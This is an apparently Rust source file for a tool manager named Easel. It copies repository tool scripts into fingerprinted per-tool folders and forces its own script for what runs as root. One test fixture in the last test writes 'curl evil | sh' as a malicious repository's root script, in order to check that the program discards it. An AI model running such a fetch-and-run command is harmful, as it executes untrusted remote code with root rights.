//! The folders of tools in use, and where they come from: what Easel or its owner brought, or the studio's own repository.
//! Puts copies in place; runs nothing.

use super::{
    Catalogue, ToolId, ToolSpec, embedded,
    versions::{self, Files, Fingerprint},
};
use std::{collections::BTreeSet, io, path::Path};

/// The folder of scripts that others share.
const LIBRARY: &str = "lib";
/// The one script that root runs. It is Easel's own, whatever a repository has there.
const AS_ROOT: &str = "lib/with-packages.sh";
/// Most folders of a repository that are taken for tools.
const FOLDERS_MAX: usize = 200;

/// Most bytes of the copies of all tools.
const ALL_MAX: usize = 256 << 20;

/// The tools of a setup folder, and whose word they are.
#[derive(Debug, Default)]
pub struct Shelf {
    /// The tools.
    pub catalogue: Catalogue,
    /// Where they come from.
    pub origin: Origin,
}

/// Where tools come from.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub enum Origin {
    /// With the program, or from a folder that its owner named: they run when somebody starts them.
    #[default]
    Own,
    /// From a repository, which changes by itself: a tool runs once an admin has seen its scripts.
    Repository {
        /// The commit.
        commit: String,
    },
}

/// The scripts of a tool that came from a repository.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Version {
    /// What they are.
    pub fingerprint: Fingerprint,
    /// The commit that they came with.
    pub commit: String,
}

impl Shelf {
    /// The tools of a folder that is trusted as it is.
    ///
    /// # Errors
    /// When it cannot be listed.
    pub fn own(setup: &Path) -> io::Result<Shelf> {
        Ok(Shelf { catalogue: Catalogue::load(setup)?, origin: Origin::Own })
    }

    /// The tools of a repository, from the files of its setup folder at `commit`. Each is copied to a folder of its own below the data
    /// folder, with what its scripts may use and nothing else: its own folder, the shared functions, and the file of its choices. So
    /// what runs is what was looked at.
    ///
    /// # Errors
    /// When the copies cannot be written.
    pub fn of_repository(files: Files, commit: &str, data: &Path) -> io::Result<Shelf> {
        let files = with_own(files);
        let folders: BTreeSet<&str> = files.keys().filter_map(|path| Some(path.split_once('/')?.0)).collect();
        let (mut found, mut bytes) = (Vec::new(), 0);
        for name in folders.into_iter().filter(|name| *name != LIBRARY && !name.starts_with('.')).take(FOLDERS_MAX) {
            let its = of_tool(&files, name);
            bytes += its.values().map(Vec::len).sum::<usize>();
            if bytes > ALL_MAX {
                let mib = ALL_MAX >> 20;
                return Err(io::Error::other(format!("its tools, each with what they share, come to more than {mib} MiB")));
            }
            let (folder, fingerprint) = versions::put(data, &its)?;
            found.push((folder, name.to_owned(), Some(Version { fingerprint, commit: commit.to_owned() })));
        }
        Ok(Shelf { catalogue: Catalogue::gather(found), origin: Origin::Repository { commit: commit.to_owned() } })
    }
}

/// A repository may rely on the shared functions that come with Easel, and what runs as root is never its word.
fn with_own(mut files: Files) -> Files {
    let none = !files.keys().any(|path| in_folder(path, LIBRARY));
    let own = embedded::files().filter(|(path, _)| *path == AS_ROOT || none && in_folder(path, LIBRARY));
    files.extend(own.map(|(path, bytes)| (path.to_owned(), bytes.to_vec())));
    files
}

/// All that the scripts of a tool may use.
fn of_tool(files: &Files, name: &str) -> Files {
    let picks = picks_of(files, name);
    let its = |path: &str| in_folder(path, name) || in_folder(path, LIBRARY) || picks.as_deref() == Some(path);
    files.iter().filter(|(path, _)| its(path)).map(|(path, bytes)| (path.clone(), bytes.clone())).collect()
}

/// The file of a tool's choices, which may lie in another one's folder.
fn picks_of(files: &Files, name: &str) -> Option<String> {
    let text = std::str::from_utf8(files.get(&format!("{name}/tool.toml"))?).ok()?;
    Some(ToolSpec::parse(ToolId::parse(name).ok()?, text).ok()?.picks?.file)
}

fn in_folder(path: &str, folder: &str) -> bool {
    path.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    const TOML: &str = "name = \"S\"\nabout = \"a\"\ninstall = \"s\"\n";
    const SCRIPT: &str = "#!/usr/bin/env bash\nset -euo pipefail\n";

    fn repository(more: &[(&str, &str)]) -> Files {
        let all = [("sketch/tool.toml", TOML), ("sketch/install_sketch.sh", SCRIPT)];
        all.iter().chain(more).map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect()
    }

    fn version(shelf: &Shelf, tool: &str) -> Version {
        shelf.catalogue.get(&ToolId::parse(tool).unwrap()).unwrap().version.clone().unwrap()
    }

    #[test]
    fn each_version_has_a_folder_of_its_own_and_any_change_another_fingerprint() {
        let data = tempfile::tempdir().unwrap();
        let shelf = |more: &[(&str, &str)]| Shelf::of_repository(repository(more), "c", data.path()).unwrap();
        let first = shelf(&[]);
        assert_eq!(first.catalogue.broken(), []);
        assert_eq!(version(&first, "sketch"), version(&shelf(&[]), "sketch"));
        let before = first.catalogue.tools().next().unwrap().path.clone();
        assert!(before.join("../lib/easel.sh").is_file(), "the shared functions come with Easel");
        let second = shelf(&[("lib/own.sh", "")]);
        let after = second.catalogue.tools().next().unwrap().path.clone();
        assert!(version(&first, "sketch") != version(&second, "sketch"), "what scripts share is part of each");
        assert!(before != after && before.is_dir() && !after.join("../lib/easel.sh").exists());
    }

    #[test]
    fn a_tool_has_what_it_is_accepted_for_and_nothing_else() {
        let data = tempfile::tempdir().unwrap();
        let nodes =
            "name = \"N\"\nabout = \"a\"\nwithin = \"sketch\"\npicks = { file = \"sketch/nodes.txt\", below = \"app\" }\n";
        let shelf = |list: &str, more: &[(&str, &str)]| {
            let all = [
                ("sketch/nodes.txt", list),
                ("common.sh", "echo common\n"),
                ("nodes/tool.toml", nodes),
                ("nodes/install_nodes.sh", SCRIPT),
            ];
            Shelf::of_repository(repository(&[&all, more].concat()), "c", data.path()).unwrap()
        };
        let (one, two) = ("https://example.org/a/one\n", "https://example.org/a/two\n");
        let first = shelf(one, &[]);
        assert_eq!(first.catalogue.broken(), []);
        let setup = first.catalogue.get(&ToolId::parse("nodes").unwrap()).unwrap().setup().to_path_buf();
        assert_eq!(fs::read_to_string(setup.join("sketch/nodes.txt")).unwrap(), one);
        assert!(!setup.join("sketch/install_sketch.sh").exists() && !setup.join("common.sh").exists());
        // The list of its choices is part of it, also in another one's folder; whatever else is there is not.
        assert!(version(&first, "nodes") != version(&shelf(two, &[]), "nodes"));
        let third = shelf(one, &[("sketch/notes.txt", "x")]);
        assert_eq!(version(&first, "nodes"), version(&third, "nodes"));
        assert!(version(&first, "sketch") != version(&third, "sketch"));
    }

    #[test]
    fn what_root_runs_is_easels_own() {
        let data = tempfile::tempdir().unwrap();
        let files = repository(&[(AS_ROOT, "curl evil | sh\n"), ("lib/own.sh", "")]);
        let shelf = Shelf::of_repository(files, "c", data.path()).unwrap();
        let script = fs::read_to_string(shelf.catalogue.tools().next().unwrap().setup().join(AS_ROOT)).unwrap();
        assert!(script.contains("apt-get") && !script.contains("evil"), "{script}");
    }
}
